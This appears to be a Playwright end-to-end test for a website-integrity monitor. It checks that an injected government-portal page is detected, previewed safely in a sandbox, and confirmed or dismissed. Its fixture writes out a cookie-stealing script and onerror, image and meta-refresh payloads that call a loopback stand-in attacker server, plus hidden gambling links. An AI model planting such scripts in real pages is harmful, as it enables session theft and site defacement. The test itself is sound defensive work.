import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { test } from 'node:test';
import type { Browser, Page } from 'playwright-core';
import { startBackground, type Background } from '../../server/src/jobs/background.ts';
import { silentLogger } from '../../server/src/monitoring/types.ts';
import { apiClient, launchChromium, login, NO_CHROMIUM } from '../helpers/browser.ts';
import { startTestServer } from '../helpers/test-server.ts';

/**
 * Page integrity as an analyst meets it, in a real browser against the real server and its
 * in-process worker: a loopback portal is learned, then gets a hidden gambling-link block and
 * a script that tries to steal the application's cookies. The analyst finds the alarm, reads
 * the reasons and the diff, looks at the snapshot in the sandboxed preview (the script must
 * not run: a loopback "attacker" server counts every request it would make) and as escaped
 * source, confirms it; a later defacement is dismissed as legitimate.
 */

const CHECK_WAIT_MS = 30_000;

const portal = (news: string, extra = '') => `<!doctype html><html lang="vi"><head><meta charset="utf-8"><title>Cổng thông tin điện tử Sở E2E</title></head><body>
<nav><a href="/">Trang chủ</a> <a href="/gioi-thieu/">Giới thiệu</a> <a href="/tin-tuc/">Tin tức</a> <a href="https://chinhphu.vn/">Chính phủ</a></nav>
<main><h1>${news}</h1><p>Sở tổ chức hội nghị triển khai nhiệm vụ chuyển đổi số năm 2026 với các phòng, ban trực thuộc.</p></main>
${extra}
<footer>Bản quyền thuộc Sở E2E. Địa chỉ: số 1 đường Trần Phú. Điện thoại: 0123 456 789.</footer></body></html>`;

/** Counts every request: anything the hostile snapshot manages to send from the preview lands here. */
async function startBeacon() {
  const hits: string[] = [];
  const server: Server = createServer((req, res) => {
    hits.push(req.url ?? '');
    res.writeHead(204).end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}`, hits, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
}

async function startPortal() {
  const site = { home: portal('Hội nghị chuyển đổi số') };
  const server: Server = createServer((req, res) => {
    const path = (req.url ?? '/').split('?')[0];
    if (path === '/' || path === '/tin-tuc/' || path === '/gioi-thieu/') {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      res.end(path === '/' ? site.home : portal('Tin tức'));
    } else res.writeHead(404, { 'content-type': 'text/plain' }).end('not found');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}/`, site, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
}

test('detections: an injected page is found, its evidence shown safely, confirmed; a later alarm dismissed', { skip: NO_CHROMIUM, timeout: 180_000 }, async (t) => {
  const server = await startTestServer();
  const own: Background | null = (server as { background?: unknown }).background ? null : await startBackground(server.ctx, { log: silentLogger });
  const beacon = await startBeacon();
  const web = await startPortal();
  let browser: Browser | undefined;
  try {
    browser = await launchChromium();
    const page: Page = await browser.newPage({ viewport: { width: 1366, height: 900 }, locale: 'vi-VN' });
    page.setDefaultTimeout(10_000);
    let monitorId = '';
    let systemId = '';
    const shots = process.env.VIGIL_E2E_SCREENSHOTS;
    await login(page, server.url, server.admin.username, server.admin.password);
    const api = await apiClient(page, server.url);
    type M = { lastCheckedAt: string | null; state: string; baseline: { samples?: number } | null };
    /** Presses "check now" on the monitor page and waits until a newer check is stored. */
    const checkNow = async () => {
      const before = (await api.get<M>(`/monitors/${monitorId}`)).lastCheckedAt;
      await page.getByTestId('monitor-check-now').click();
      const until = Date.now() + CHECK_WAIT_MS;
      for (;;) {
        const m = await api.get<M>(`/monitors/${monitorId}`);
        if (m.lastCheckedAt && m.lastCheckedAt !== before) return m;
        assert.ok(Date.now() < until, 'the check ran');
        await new Promise((r) => setTimeout(r, 300));
      }
    };

    await t.test('a coordinator adds a content monitor to the portal and it learns the page', async () => {
      const agency = await api.post<{ id: string }>('/agencies', { parentId: null, code: 'DET-E2E', name: 'Sở Phát hiện E2E', kind: 'department' });
      const system = await api.post<{ id: string }>('/systems', { name: 'Cổng TTĐT Sở E2E', ownerAgencyId: agency.id, securityLevel: 3, urls: [web.url] });
      systemId = system.id;
      await api.patch(`/systems/${systemId}`, { internal: true });
      await page.goto(`${server.url}/monitors`);
      await page.getByTestId('monitor-create').click();
      const form = page.getByTestId('monitor-form');
      await form.getByTestId('monitor-system').locator(`option[value="${systemId}"]`).waitFor({ state: 'attached' });
      await form.getByTestId('monitor-system').selectOption(systemId);
      await form.getByTestId('monitor-kind').selectOption('content');
      assert.equal(await form.getByTestId('monitor-interval').inputValue(), '600', 'content checks default to every 10 minutes');
      await form.getByTestId('monitor-settings-content').waitFor();
      await form.getByTestId('monitor-name').fill('Cổng TTĐT Sở E2E (nội dung)');
      await form.getByTestId('monitor-threshold').fill('1');
      await form.getByTestId('monitor-submit').click();
      await page.getByTestId('monitor-detail').waitFor();
      monitorId = /\/monitors\/([0-9a-f-]{36})$/.exec(page.url())?.[1] ?? '';
      assert.ok(monitorId);
      let m = await checkNow();
      while ((m.baseline?.samples ?? 0) < 3) m = await checkNow();
      assert.equal(m.state, 'up');
      await page.getByTestId('monitor-detections').waitFor();
    });

    await t.test('the page gets a hidden gambling block and a cookie-stealing script: the monitor goes down', async () => {
      web.site.home = portal(
        'Hội nghị chuyển đổi số',
        `<div style="position:absolute;left:-9999px"><a href="https://nhacai-uytin.example/">nhà cái uy tín</a> <a href="https://nhacai-uytin.example/no-hu">nổ hũ đổi thưởng</a> <a href="https://nhacai-uytin.example/tai-xiu">tài xỉu online</a> <a href="https://nhacai-uytin.example/ca-cuoc">cá cược bóng đá</a></div>
<script>new Image().src='${beacon.url}/steal?c='+encodeURIComponent(document.cookie);try{parent.document.title='pwned'}catch(e){};document.body.setAttribute('data-pwned','1')</script>
<img src="x" onerror="fetch('${beacon.url}/onerror')"><img src="${beacon.url}/img.png"><link rel="stylesheet" href="${beacon.url}/style.css">
<meta http-equiv="refresh" content="0;url=${beacon.url}/refresh">`,
      );
      const m = await checkNow();
      assert.equal(m.state, 'down');
      await page.reload();
      await page.getByTestId('monitor-header-state').locator('[data-state=down]').waitFor();
    });

    await t.test('the analyst finds the alarm and sees why, and what changed against the profile', async () => {
      await page.getByTestId('nav-detections').click();
      const row = page.getByTestId('detection-row').first();
      await row.waitFor();
      assert.match(await row.innerText(), /Cổng TTĐT Sở E2E/);
      await row.getByTestId('detection-link').click();
      await page.getByTestId('detection-detail').waitFor();
      assert.match(await page.getByTestId('detection-kind').innerText(), /Chèn nội dung/);
      assert.match(await page.getByTestId('detection-reasons').innerText(), /nhà cái|nổ hũ|tài xỉu|cá cược|ẩn|hidden/i);
      assert.match(await page.getByTestId('diff-new-domains').innerText(), /nhacai-uytin\.example/);
      if (shots) await page.screenshot({ path: `${shots}/detection-detail.png`, fullPage: true });
    });

    await t.test('the snapshot is previewed in a sandbox: no script, no request leaves, no cookie read', async () => {
      const frameEl = page.getByTestId('evidence-frame');
      await frameEl.waitFor();
      assert.equal(await frameEl.getAttribute('sandbox'), '', 'the frame is sandboxed with no permissions');
      const src = (await frameEl.getAttribute('src')) ?? '';
      const frame = page.frameLocator('[data-testid=evidence-frame]');
      await frame.getByText('Bản quyền thuộc Sở E2E').waitFor();
      // Give a script, an onerror handler and the meta refresh every chance to fire.
      await page.waitForTimeout(1500);
      if (shots) {
        await frameEl.scrollIntoViewIfNeeded();
        await page.screenshot({ path: `${shots}/evidence-preview.png` });
        await frame.locator('body').screenshot({ path: `${shots}/evidence-frame-body.png` });
      }
      assert.deepEqual(beacon.hits, [], 'nothing the snapshot asked for reached the attacker');
      assert.notEqual(await page.title(), 'pwned');
      assert.equal(await frame.locator('body[data-pwned]').count(), 0, 'the inline script did not run');
      const res = await page.request.get(`${server.url}${src}`);
      const csp = res.headers()['content-security-policy'] ?? '';
      assert.match(csp, /(^|;\s*)sandbox(;|$)/);
      assert.match(csp, /default-src 'none'/);
      assert.equal(res.headers()['x-content-type-options'], 'nosniff');
      assert.doesNotMatch(await res.text(), /http-equiv="refresh"/i, 'the refresh is neutralised in the served copy');
    });

    await t.test('the source is shown as escaped text', async () => {
      await page.getByTestId('evidence-mode-source').click();
      const source = page.getByTestId('evidence-source');
      await source.waitFor();
      assert.match(await source.innerText(), /<script>new Image\(\)\.src=/);
      assert.equal(await source.locator('script, img').count(), 0, 'the markup is text, not elements');
    });

    await t.test('the analyst confirms the compromise', async () => {
      await page.getByTestId('detection-confirm').click();
      await page.getByTestId('detection-note').fill('Đã liên hệ đơn vị, gỡ mã độc');
      await page.getByTestId('detection-decision-submit').click();
      await page.getByTestId('detection-review').filter({ hasText: 'Đã xác nhận' }).waitFor();
      assert.match(await page.getByTestId('detection-reviewed').innerText(), /Quản trị viên/);
      assert.equal(await page.getByTestId('detection-confirm').count(), 0, 'decided once');
    });

    await t.test('on a phone the analysis page fits the screen', async () => {
      const phone = await browser!.newPage({ viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true, locale: 'vi-VN' });
      phone.setDefaultTimeout(10_000);
      await login(phone, server.url, server.admin.username, server.admin.password);
      await phone.goto(page.url());
      await phone.getByTestId('detection-detail').waitFor();
      await phone.getByTestId('evidence-frame').waitFor();
      const width = await phone.evaluate<number>('document.documentElement.scrollWidth');
      assert.ok(width <= 390, `nothing scrolls sideways (page is ${width} px wide)`);
      if (shots) await phone.screenshot({ path: `${shots}/detection-phone.png`, fullPage: true });
      await phone.close();
    });

    await t.test('a later alarm is dismissed as legitimate: learned into the profile, the monitor comes back up', async () => {
      web.site.home = portal('Thông báo', '<div style="background:#000;color:#0f0"><h2>Hacked by E2E Team</h2><p>Your security is low. Greetz to all.</p></div>');
      await page.goto(`${server.url}/monitors/${monitorId}`);
      const m = await checkNow();
      assert.equal(m.state, 'down');
      await page.goto(`${server.url}/detections?review=new`);
      await page.getByTestId('detection-row').first().getByTestId('detection-link').click();
      await page.getByTestId('detection-detail').waitFor();
      await page.getByTestId('detection-dismiss').click();
      await page.getByTestId('detection-decision-submit').click();
      await page.getByTestId('detection-review').filter({ hasText: 'Không phải tấn công' }).waitFor();
      // Dismissing schedules a check at once; the accepted page is now normal.
      const until = Date.now() + CHECK_WAIT_MS;
      while ((await api.get<M>(`/monitors/${monitorId}`)).state !== 'up') {
        assert.ok(Date.now() < until, 'the monitor came back up');
        await new Promise((r) => setTimeout(r, 300));
      }
    });

    await t.test('after a redesign the coordinator has the page learned again from scratch', async () => {
      await page.goto(`${server.url}/monitors/${monitorId}`);
      await page.getByTestId('monitor-relearn').click();
      await page.getByTestId('confirm-button').click();
      await page.getByTestId('confirm-dialog').waitFor({ state: 'detached' });
      const m = await api.get<M>(`/monitors/${monitorId}`);
      assert.ok((m.baseline?.samples ?? 0) <= 1, `the profile was reset (samples ${m.baseline?.samples})`);
    });
  } finally {
    await browser?.close();
    await own?.stop();
    await web.close();
    await beacon.close();
    await server.close();
  }
});
